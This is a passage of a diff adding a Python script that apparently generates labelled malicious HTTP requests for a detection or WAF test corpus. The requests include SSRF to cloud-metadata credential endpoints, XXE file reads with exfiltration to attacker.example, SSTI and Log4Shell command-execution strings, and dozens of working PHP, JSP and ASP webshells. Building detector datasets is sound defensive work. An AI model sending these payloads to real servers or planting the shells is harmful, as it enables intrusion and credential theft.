+        Q("/index.php", "template", "\\\\attacker.example\\share\\x.php"),
+        Q("/fetch", "url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+        Q("/fetch", "url", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
+        Q("/fetch", "url", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
+        Q("/thumb", "img", "http://127.0.0.1:6379/"),
+        Q("/fetch", "url", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"),
+        Q("/fetch", "url", "dict://127.0.0.1:11211/stats"),
+        Q("/fetch", "url", "http://0x7f000001/admin"),
+        Q("/fetch", "url", "http://2130706433/"),
+        Q("/fetch", "url", "http://[::1]:8080/actuator/env"),
+        Q("/fetch", "url", "http://localhost:2375/containers/json"),
+        Q("/fetch", "url", "http://127.1/server-status"),
+        Q("/fetch", "url", "http://0.0.0.0:22/"),
+        Q("/fetch", "url", "http://169.254.169.254.nip.io/latest/meta-data/"),
+        Q("/hooks/test", "callback", "http://10.0.0.5:8500/v1/agent/self"),
+        Q("/fetch", "url", "http://attacker.example@127.0.0.1/admin"),
+        Q("/fetch", "url", "http://127.0.0.1#@trusted.example/"),
+        J("/api/v1/profile/avatar", {"avatar_url": "http://169.254.169.254/latest/user-data"}),
+        J("/api/v1/webhooks", {"name": "ci", "url": "http://[0:0:0:0:0:ffff:127.0.0.1]:9200/_cat/indices"}),
+        Q("/fetch", "url", "ldap://127.0.0.1:389/dc=example"),
+        Q("/feed/import", "feed", "http://0177.0.0.1/"),
+        Q("/fetch", "u", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/"),
+        Q("/fetch", "url", "http://169.254.170.2/v2/credentials"),
+        Q("/fetch", "url", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
+        Q("/fetch", "url", "jar:http://attacker.example/x.jar!/"),
+        Q("/index.php", "path", "http://attacker.example/shell.txt?", e=dbl),
+        Q("/index.php", "page", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+"),
+        Q("/index.php", "lang", "http://attacker.example/evil"),
+        M("/admin/import", [("source", "url"), ("url", "http://127.0.0.1:8080/manager/html")]),
+        F("/share/preview", "link", "http://192.168.0.1/cgi-bin/luci"),
+        Q("/proxy", "target", "file:///proc/self/environ"),
+        J("/api/v1/pdf", {"html": "<iframe src=\"http://169.254.169.254/latest/meta-data/\"></iframe>"}),
+        Q("/image/resize", "src", "http://[fd00:ec2::254]/latest/meta-data/"),
+        Q("/fetch", "url", "http://017700000001:8080/"),
+        Q("/index.php", "module", "https://attacker.example/m.txt?", e=uenc),
+    ]
+
+
+# ---------------------------------------------------------------------- XXE
+def xxe():
+    pre = '<?xml version="1.0" encoding="UTF-8"?>\n'
+    return [
+        XML("/api/xml/order", pre + '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
+            '<order><id>&xxe;</id></order>'),
+        XML("/api/xml/order", pre + '<!DOCTYPE x [<!ENTITY % r SYSTEM "http://attacker.example/evil.dtd"> %r;]>\n'
+            '<order/>'),
+        XML("/api/xml/order", pre + '<!DOCTYPE d [\n<!ENTITY % file SYSTEM "file:///etc/hostname">\n'
+            '<!ENTITY % dtd SYSTEM "http://attacker.example/oob.dtd">\n%dtd;\n%send;\n]>\n<d>1</d>'),
+        XML("/import", pre + '<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/'
+            'resource=/var/www/html/config.php">]><r>&x;</r>', ctype="text/xml"),
+        XML("/import", pre + '<!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>', ctype="text/xml"),
+        XML("/import", pre + '<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol2 "&lol;&lol;&lol;&lol;'
+            '&lol;&lol;&lol;&lol;&lol;&lol;">\n <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;'
+            '&lol2;&lol2;&lol2;">\n <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;'
+            '&lol3;">\n]>\n<lolz>&lol4;</lolz>'),
+        XML("/import", pre + '<!DOCTYPE q [<!ENTITY a "' + "AAAAAAAAAA" * 40 + '">]><q>' + "&a;" * 60 +
+            '</q>'),
+        M("/upload/avatar", [("file", '<?xml version="1.0" standalone="yes"?><!DOCTYPE test [ <!ENTITY xxe '
+                              'SYSTEM "file:///etc/hostname" > ]><svg width="128px" height="128px" '
+                              'xmlns="http://www.w3.org/2000/svg"><text font-size="16" x="0" y="16">&xxe;'
+                              '</text></svg>', "avatar.svg", "image/svg+xml")]),
+        XML("/ws/PaymentService", pre + '<!DOCTYPE soap [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+            '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
+            '<getStatus><txn>&e;</txn></getStatus></soap:Body></soap:Envelope>', ctype="text/xml"),
+        XML("/api/xml/doc", '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" '
+            'href="file:///etc/passwd"/></foo>'),
+        XML("/api/xml/doc", '<?xml version="1.0" encoding="UTF-7"?>\n+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ENTITY '
+            'xxe SYSTEM +ACI-file:///etc/passwd+ACI +AD4AXQA+-\n+ADw-foo+AD4AJg-xxe+ADsAPA-/foo+AD4-'),
+        Q("/parse", "xml", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
+        J("/api/v1/convert", {"format": "xml", "data": '<?xml version="1.0"?><!DOCTYPE z [<!ENTITY s SYSTEM '
+                              '"http://169.254.169.254/latest/meta-data/">]><z>&s;</z>'}),
+        M("/import/products", [("mode", "merge"), ("file", pre + '<!DOCTYPE p [<!ENTITY x SYSTEM '
+                                '"file:///etc/shadow">]><products><p>&x;</p></products>', "products.xml",
+                                "text/xml")]),
+        XML("/api/xml/order", pre + '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]><w>&x;</w>'),
+        XML("/api/xml/order", pre + '<!DOCTYPE foo PUBLIC "-//X//DTD X//EN" "http://attacker.example/x.dtd">'
+            '<foo>1</foo>'),
+        XML("/api/xml/order", pre + '<!DOCTYPE j [<!ENTITY x SYSTEM "netdoc:///etc/passwd">]><j>&x;</j>'),
+        XML("/api/xml/order", pre + '<!DOCTYPE j [<!ENTITY x SYSTEM "jar:http://attacker.example/a.zip!/b">]>'
+            '<j>&x;</j>'),
+        XML("/api/xml/order", pre + '<!DOCTYPE g [<!ENTITY x SYSTEM "gopher://127.0.0.1:25/xHELO">]><g>&x;</g>'),
+        XML("/api/xml/order", pre + '<!DOCTYPE message [\n<!ENTITY % local_dtd SYSTEM '
+            '"file:///usr/share/yelp/dtd/docbookx.dtd">\n<!ENTITY % ISOamso \'\n<!ENTITY &#x25; file SYSTEM '
+            '"file:///etc/passwd">\n<!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///'
+            'nonexistent/&#x25;file;&#x27;>">\n&#x25;eval;\n&#x25;error;\n\'>\n%local_dtd;\n]>\n<message/>'),
+        XML("/api/xml/order", pre + '<!DOCTYPE   foo\n  [\n\t<!ENTITY\n  ext\n\tSYSTEM\n  '
+            '"file:///etc/issue"  >\n]>\n<foo>&ext;</foo>'),
+        F("/sso/acs", "SAMLResponse", "PD94bWwgdmVyc2lvbj0iMS4wIj8+PCFET0NUWVBFIHIgWzwhRU5USVRZIHggU1lTVEVNICJm"
+          "aWxlOi8vL2V0Yy9wYXNzd2QiPl0+PHNhbWxwOlJlc3BvbnNlPiZ4Ozwvc2FtbHA6UmVzcG9uc2U+"),
+        XML("/rss/import", pre + '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss version="2.0">'
+            '<channel><title>&x;</title></channel></rss>', ctype="application/rss+xml"),
+        XML("/api/xml/order", pre + '<!DOCTYPE r [<!ENTITY % a SYSTEM "http://attacker.example/x.dtd">%a;]>'
+            '<r/>', method="PUT"),
+        M("/docs/upload", [("title", "cv"), ("doc", '<?xml version="1.0"?><!DOCTYPE d SYSTEM '
+                           '"http://attacker.example/d.dtd"><d/>', "cv.xml", "application/xml")]),
+        XML("/xmlrpc.php", pre + '<!DOCTYPE methodCall [<!ENTITY x SYSTEM "file:///etc/passwd">]><methodCall>'
+            '<methodName>&x;</methodName></methodCall>', ctype="text/xml"),
+        XML("/api/xml/order", pre + '<!DOCTYPE k [<!ENTITY x SYSTEM "file:///proc/self/environ">]><k>&x;</k>',
+            ctype="application/soap+xml"),
+        Q("/parse", "xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', e=dbl),
+        XML("/api/xml/order", pre + '<!DOCTYPE z [<!ENTITY x SYSTEM "https://attacker.example/?leak">]><z>&x;</z>'),
+    ]
+
+
+# --------------------------------------------------------------------- SSTI
+def ssti():
+    return [
+        Q("/hello", "name", "{{7*7}}"),
+        Q("/hello", "name", "{{config.items()}}"),
+        Q("/hello", "name", "{{''.__class__.__mro__[1].__subclasses__()}}"),
+        Q("/hello", "name", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
+        Q("/hello", "name", "{{cycler.__init__.__globals__.os.popen('id').read()}}"),
+        F("/preview", "tpl", "{{lipsum.__globals__['os'].popen('whoami').read()}}"),
+        F("/preview", "tpl", "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
+          "{{x()._module.__builtins__['__import__']('os').popen(\"ls\").read()}}{% endif %}{% endfor %}"),
+        Q("/greet", "n", "${7*7}"),
+        Q("/greet", "n", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
+        Q("/greet", "n", "#{7*7}"),
+        F("/mail/template", "body", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
+        F("/mail/template", "body", "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")"),
+        F("/mail/template", "body", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))"
+          "#set($ex=$rt.getRuntime().exec('id'))"),
+        Q("/erb", "msg", "<%= 7*7 %>"),
+        Q("/erb", "msg", "<%= `id` %>"),
+        Q("/erb", "msg", "<%= system(\"cat /etc/passwd\") %>"),
+        Q("/hello", "name", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}"),
+        Q("/hello", "name", "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}"),
+        Q("/hello", "name", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}"),
+        F("/cms/block", "content", "{php}echo `id`;{/php}"),
+        F("/cms/block", "content", "{system('id')}"),
+        F("/cms/block", "content", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}"
+          "{{_self.env.getFilter(\"id\")}}"),
+        F("/cms/block", "content", "{{['id']|filter('system')}}"),
+        Q("/page", "lang", "*{T(java.lang.Runtime).getRuntime().exec('calc')}"),
+        P("/doc/__${T(java.lang.Runtime).getRuntime().exec(%22id%22)}__::.x"),
+        H("/", "User-Agent", "${jndi:ldap://attacker.example/a}"),
+        H("/api/login", "X-Api-Version", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
+        Q("/search", "q", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example:1099/o}"),
+        J("/api/v1/login", {"username": "${jndi:dns://attacker.example/u}", "password": "x"}),
+        H("/struts/upload.action", "Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@"
+          "DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='id').(#p=new java.lang.ProcessBuilder("
+          "{'/bin/sh','-c',#cmd})).(#p.start())}"),
+        Q("/hbs", "name", "{{constructor.constructor('return process')().mainModule.require('child_process')."
+          "execSync('id')}}"),
+        Q("/greet", "n", "#{T(java.lang.System).getenv()}"),
+        F("/razor/preview", "code", "@{ System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"); }"),
+        J("/api/v1/render", {"template": "{{range.constructor(\"return global.process.mainModule.require("
+                             "'child_process').execSync('id')\")()}}"}),
+        Q("/hello", "name", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", e=dbl),
+        C("/", "name={{7*'7'}}; theme=light"),
+        M("/profile", [("display_name", "{{''.__class__.__base__.__subclasses__()[132].__init__.__globals__"
+                                        "['popen']('id').read()}}")]),
+        Q("/greet", "n", "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}"),
+    ]
+
+
+# ----------------------------------------------------------------- webshell
+PHP_B64 = "ZXZhbCgkX1BPU1RbJ3onXSk7"
+
+
+def webshell():
+    shells = [
+        ("shell.php", "application/x-php", "<?php @eval($_POST['cmd']);?>"),
+        ("x.php", "application/octet-stream", "<?php system($_GET['c']); ?>"),
+        ("t.php", "text/plain", "<?=`$_GET[0]`?>"),
+        ("img.php", "image/jpeg", "<?php $f=base64_decode('c3lzdGVt');$f($_REQUEST['x']);?>"),
+        ("a.php", "application/x-php", "<?php assert($_POST[a]); ?>"),
+        ("avatar.gif.php", "image/gif", "GIF89a;\n<?php passthru($_GET['cmd']); ?>"),
+        ("photo.jpg", "image/jpeg", "\u00ff\u00d8\u00ff\u00e0\u0010JFIF\u0001\u0001<?php system($_REQUEST['c']);"
+         " __halt_compiler(); ?>"),
+        ("1.php", "application/x-php", "<?php @eval($_POST['caidao']);?>"),
+        ("old.php", "text/plain", "<?php preg_replace(\"/.*/e\",$_POST['x'],\"\"); ?>"),
+        ("n.php", "text/plain", "<?php $_=\"{\";$_=($_^\"<\").($_^\">;\").($_^\"/\");?><?=${'_'.$_}[\"_\"]"
+         "(${'_'.$_}[\"__\"]);?>"),
+        ("cache.php", "text/plain", "<?php eval(gzinflate(base64_decode('" + PHP_B64 + "'))); ?>"),
+        ("m.php", "text/plain", "<?php array_map('ass'.'ert', array($_REQUEST['z'])); ?>"),
+        ("cmd.php", "text/plain", "<?php if(isset($_REQUEST['cmd'])){ echo \"<pre>\"; $cmd = ($_REQUEST['cmd']);"
+         " system($cmd); echo \"</pre>\"; die; }?>"),
+        ("s.php", "text/html", "<script language=\"php\">system($_GET['c']);</script>"),
+        (".htaccess", "text/plain", "AddType application/x-httpd-php .jpg\n"),
+        (".user.ini", "text/plain", "auto_prepend_file=shell.jpg\n"),
+        ("cmd.jsp", "application/octet-stream", "<%Runtime.getRuntime().exec(request.getParameter(\"cmd\"));%>"),
+        ("sh.jsp", "text/plain", "<%@ page import=\"java.io.*\" %><% Process p = new ProcessBuilder(\"/bin/sh\","
+         "\"-c\",request.getParameter(\"c\")).start(); BufferedReader r = new BufferedReader(new "
+         "InputStreamReader(p.getInputStream())); String l; while((l=r.readLine())!=null){out.println(l);} %>"),
+        ("b.jsp", "text/plain", "<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%><%!class U "
+         "extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,"
+         "b.length);}}%><%if (request.getMethod().equals(\"POST\")){String k=\"e45e329feb5d925b\";session."
+         "putValue(\"u\",k);Cipher c=Cipher.getInstance(\"AES\");c.init(2,new SecretKeySpec(k.getBytes(),\"AES\"));"
+         "new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request."
+         "getReader().readLine()))).newInstance().equals(pageContext);}%>"),
+        ("x.jspx", "text/xml", "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"1.2\">"
+         "<jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter(\"c\"));</jsp:scriptlet></jsp:root>"),
+        ("x.aspx", "text/plain", "<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd.exe\","
+         "\"/c \"+Request[\"c\"]); %>"),
+        ("c.aspx", "text/plain", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"pass\"],\"unsafe\");%>"),
+        ("c.asp", "text/plain", "<%eval request(\"x\")%>"),
+        ("e.asp", "text/plain", "<%execute(request(\"cmd\"))%>"),
+        ("web.config", "text/xml", "<?xml version=\"1.0\"?><configuration><system.webServer><handlers "
+         "accessPolicy=\"Read, Script, Write\"><add name=\"wc\" path=\"*.config\" verb=\"*\" modules="
+         "\"IsapiModule\" scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" resourceType=\"Unspecified\" "
+         "/></handlers></system.webServer></configuration>\n<% Response.write(CreateObject(\"WScript.Shell\")."
+         "Exec(Request(\"c\")).StdOut.ReadAll()) %>"),
+        ("g.php", "text/plain", "<?php @session_start(); @set_time_limit(0); @error_reporting(0); function "
+         "encode($D,$K){for($i=0;$i<strlen($D);$i++){$c=$K[$i+1&15];$D[$i]=$D[$i]^$c;}return $D;} $pass='pass';"
+         "$payloadName='payload'; $key='3c6e0b8a9c15224a'; if(isset($_POST[$pass])){$data=encode(base64_decode("
+         "$_POST[$pass]),$key); if(isset($_SESSION[$payloadName])){$payload=encode($_SESSION[$payloadName],$key);"
+         " eval($payload);}}"),
+        ("w.php", "text/plain", "<?php $k=\"0a1b2c3d\";$kh=\"4e5f\";$kf=\"6a7b\";$p=\"x\";function x($t,$k){$c="
+         "strlen($k);$l=strlen($t);$o=\"\";for($i=0;$i<$l;){for($j=0;($j<$c&&$i<$l);$j++,$i++){$o.=$t{$i}^$k{$j};}"
+         "}return $o;}if(@preg_match(\"/$kh(.+)$kf/\",@file_get_contents(\"php://input\"),$m)==1){@ob_start();"
+         "@eval(@gzuncompress(@x(@base64_decode($m[1]),$k)));$o=@ob_get_contents();@ob_end_clean();}"),
+        ("shell.php5", "application/octet-stream", "<?php echo shell_exec($_GET['e']); ?>"),
+        ("shell.phtml", "application/octet-stream", "<?php echo exec($_POST['e']); ?>"),
+        ("shell.pHp", "image/png", "<?php @eval($_REQUEST[1]); ?>"),
+        ("shell.php.", "image/png", "<?php include($_GET['f']); ?>"),
+        ("shell.asp;.jpg", "image/jpeg", "<%eval request(\"a\")%>"),
+        ("up.phar", "application/octet-stream", "<?php __HALT_COMPILER(); ?><?php system($_GET['c']); ?>"),
+        ("f.php", "text/plain", "<?php $a = $_GET['a']; $b = $_GET['b']; $a($b); ?>"),
+        ("l.php", "text/plain", "<?php call_user_func($_POST['f'], $_POST['a']); ?>"),
+        ("u.php", "text/plain", "<?php file_put_contents('x.php', file_get_contents('http://attacker.example/"
+         "s.txt')); ?>"),
+    ]
+    out = []
+    for i, (fname, ctype, content) in enumerate(shells):
+        path = ["/upload", "/user/avatar", "/admin/media/upload", "/wp-admin/async-upload.php",
+                "/api/v1/files"][i % 5]
+        out.append(M(path, [("name", fname), ("file", content, fname, ctype)],
+                     boundary="----WebKitFormBoundary%016d" % (i * 7919)))
+    # PUT uploads (Tomcat readonly=false, WebDAV) and a form field holding a shell body.
+    h = headers(ua=ua(), extra={"Content-Type": "application/octet-stream"})
+    body = "<% out.println(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"c\"))." \
+           "getInputStream()).useDelimiter(\"\\\\A\").next()); %>"
+    h["Content-Length"] = str(len(body))
+    out.append(req("PUT", "/uploads/x.jsp/", "", h, body))
+    h = headers(ua=ua(), extra={"Content-Type": "text/plain"})
+    body = "<?php system($_GET['cmd']); ?>"
+    h["Content-Length"] = str(len(body))
+    out.append(req("PUT", "/dav/files/info.php", "", h, body))
+    out.append(F("/admin/theme-editor.php", "newcontent", "<?php @eval($_POST['pass']); ?>",
+                 [("file", "footer.php"), ("theme", "twentytwenty")]))
+    return out
+
+
+# ------------------------------------------------------------------ scanner
+def scanner():
+    out = [
+        H("/", "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)", query="id=1"),
+        H("/index.php", "User-Agent", "sqlmap/1.6.12#stable (http://sqlmap.org)", query="page=2"),
+        H("/", "User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"),
+        H("/cgi-bin/", "User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:003475)"),
+        H("/", "User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
+        H("/nmaplowercheck1700000000", "User-Agent",
+          "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
+        H("/admin/", "User-Agent", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:"
+          "OWASP_DirBuster_Project)"),
+        get("/", "", ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+            "Chrome/91.0.4472.114 Safari/537.36",
+            extra={"Acunetix-Product": "WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)",
+                   "Acunetix-Scanning-agreement": "Third Party Scanning PROHIBITED",
+                   "Acunetix-User-agreement": "http://www.acunetix.com/wvs/disc.htm"}),
+        Q("/search", "q", "acunetix_wvs_security_test"),
+        H("/", "User-Agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
+        H("/wp-content/", "User-Agent", "gobuster/3.6"),
+        H("/FUZZ", "User-Agent", "Wfuzz/3.1.0"),
+        H("/wp-login.php", "User-Agent", "WPScan v3.8.24 (https://wpscan.com/wordpress-security-scanner)"),
+        H("/", "User-Agent", "Mozilla/5.0 zgrab/0.x"),
+        get("/", "", extra={"X-Scanner": "Netsparker"}, ua="Mozilla/5.0 (compatible; Netsparker)"),
+        H("/", "User-Agent", "Arachni/v1.5.1"),
+        H("/", "User-Agent", "w3af.org"),
+        H("/", "User-Agent", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.4)"),
+        H("/NessusTest4711.html", "User-Agent", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)"),
+        H("/admin.php", "User-Agent", "Fuzz Faster U Fool v2.1.0-dev"),
+        H("/backup/", "User-Agent", "Mozilla/5.0 (compatible; feroxbuster/2.10.0)"),
+        H("/", "User-Agent", "Mozilla/5.0 Jorgee"),
+        H("/phpmyadmin/scripts/setup.php", "User-Agent", "ZmEu"),
+        H("/", "User-Agent", "Morfeus Fucking Scanner"),
+        H("/login", "User-Agent", "Mozilla/4.0 (Hydra)"),
+        H("/index.php", "User-Agent", "commix/v3.8-stable (https://commixproject.com)", query="addr=127.0.0.1"),
+        H("/", "User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
+        H("/", "User-Agent", "Mozilla/5.0 (compatible; Dirbuster)"),
+        H("/", "User-Agent", "Mozilla/5.0 (compatible; xray-scanner/1.9.11)"),
+        H("/", "User-Agent", "WhatWeb/0.5.5"),
+        # probes of files a site never serves, from any client
+        P("/.env"),
+        P("/.git/config"),
+        P("/.git/HEAD"),
+        P("/wp-config.php.bak"),
+        P("/backup.sql"),
+        P("/.svn/entries"),
+        P("/.DS_Store"),
+        P("/admin/config.php.swp"),
+        P("/actuator/heapdump"),
+        P("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
+        P("/cgi-bin/test-cgi"),
+        P("/HNAP1/"),
+        P("/.aws/credentials"),
+        P("/server-status", "auto"),
+        P("/phpinfo.php"),
+        P("/db.sql.gz"),
+        P("/.htpasswd"),
+        P("/WEB-INF/web.xml"),
+    ]
+    return out
+
+
+# ----------------------------------------------------------------- protocol
+def protocol():
+    def with_headers(method, path, extra, body="", query="", drop=()):
+        h = headers(ua=ua(), extra=extra)
+        for d in drop:
+            h.pop(d, None)
+        return req(method, path, query, h, body)
+
+    chunk = "5\r\nhello\r\n0\r\n\r\n"
+    return [
+        with_headers("POST", "/api/v1/orders", {"Content-Length": "4", "Transfer-Encoding": "chunked",
+                                                "Content-Type": "text/plain"}, chunk),
+        with_headers("POST", "/", {"Content-Length": "6", "Transfer-Encoding": "chunked"},
+                     "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"),
+        with_headers("POST", "/comment", {"Transfer-Encoding": "xchunked", "Content-Length": "3"}, "abc"),
+        with_headers("POST", "/comment", {"Transfer-Encoding": " chunked, identity"}, chunk),
+        with_headers("POST", "/comment", {"Content-Length": "12, 14", "Content-Type": "text/plain"},
+                     "hello world!"),
+        with_headers("POST", "/comment", {"Content-Length": "-1"}, "x=1"),
+        with_headers("POST", "/comment", {"Content-Length": "abc"}, "x=1"),
+        with_headers("TRACE", "/", {}),
+        with_headers("TRACK", "/", {}),
+        with_headers("DEBUG", "/default.aspx", {"Command": "stop-debug"}),
+        with_headers("G<ET", "/", {}),
+        with_headers("GET", "/", {"X-Forwarded-For": "1.2.3.4\r\nX-Injected: 1"}),
+        with_headers("GET", "/", {"Accept-Language": "en\u0001\u0002"}),
+        with_headers("GET", "/download%00.php", {}),
+        get("/login", "next=%0d%0aSet-Cookie:%20sessionid=evil", ua=ua()),
+        get("/redirect", "url=/home%0D%0ALocation:%20https://attacker.example/", ua=ua()),
+        with_headers("GET", "/", {}, drop=("Host",)),
+        with_headers("GET", "/", {"Host": "shop.example.com, attacker.example"}),
+        with_headers("GET", "/", {"Host": "shop.example.com@attacker.example"}),
+        with_headers("GET", "/files/big.iso", {"Range": "bytes=0-," + ",".join("5-%d" % i for i in range(60))}),
+        with_headers("GET", "/files/big.iso", {"Request-Range": "bytes=" + ",".join("%d-" % i for i in range(50))}),
+        with_headers("POST", "/upload", {"Content-Type": "multipart/form-data"},
+                     "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--x--\r\n"),
+        with_headers("POST", "/upload", {"Content-Type": "multipart/form-data; boundary=AaB03x"},
+                     "--ZzZ99\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--ZzZ99--\r\n"),
+        with_headers("GET", "/", {"X Forwarded For": "10.0.0.1"}),
+        with_headers("POST", "/login", {"Content-Type": "application/x-www-form-urlencoded",
+                                        "Content-Length": "0"}, "user=a&pass=b"),
+        with_headers("GET", "/cgi-bin/php-cgi", {"Proxy": "http://attacker.example:8080"}),
+        with_headers("POST", "/api/v1/items/5", {"X-HTTP-Method-Override": "TRACE"}),
+        with_headers("GET", "/a\\b%01c", {}),
+        get("/search", "q=%zz%g1&page=%", ua=ua()),
+        with_headers("GET", "/", {"Cookie": "sid=1\r\nX-Evil: 1"}),
+        with_headers("GET", "/", {"Connection": "keep-alive, Transfer-Encoding",
+                                  "Transfer-Encoding": "chunked"}),
+        with_headers("GET", "/", {"Transfer-Encoding": "chunked"}, chunk),
+        with_headers("POST", "/api", {"Transfer-Encoding": "chunked\u000b", "Content-Length": "9"}, chunk),
+        with_headers("GE\tT", "/", {}),
+        with_headers("POST", "/", {"Content-Type": "multipart/form-data; boundary=a; boundary=b"},
+                     "--a\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n1\r\n--a--\r\n"),
+    ]
+
+
+CATEGORIES = [("sqli", sqli), ("xss", xss), ("cmdi", cmdi), ("lfi", lfi), ("rfi_ssrf", rfi_ssrf),
+              ("xxe", xxe), ("ssti", ssti), ("webshell", webshell), ("scanner", scanner),
+              ("protocol", protocol)]
+
+
+def main():
+    out = sys.argv[1] if len(sys.argv) > 1 else OUT
+    for name, fn in CATEGORIES:
+        reqs = fn()
+        seen = set()
+        for r in reqs:
+            key = json.dumps(r, sort_keys=True)
+            assert key not in seen, (name, r)
+            seen.add(key)
+        n = write_jsonl(os.path.join(out, name + ".jsonl"), name, reqs)
+        print("%-10s %4d" % (name, n))
+
+
+if __name__ == "__main__":
+    main()
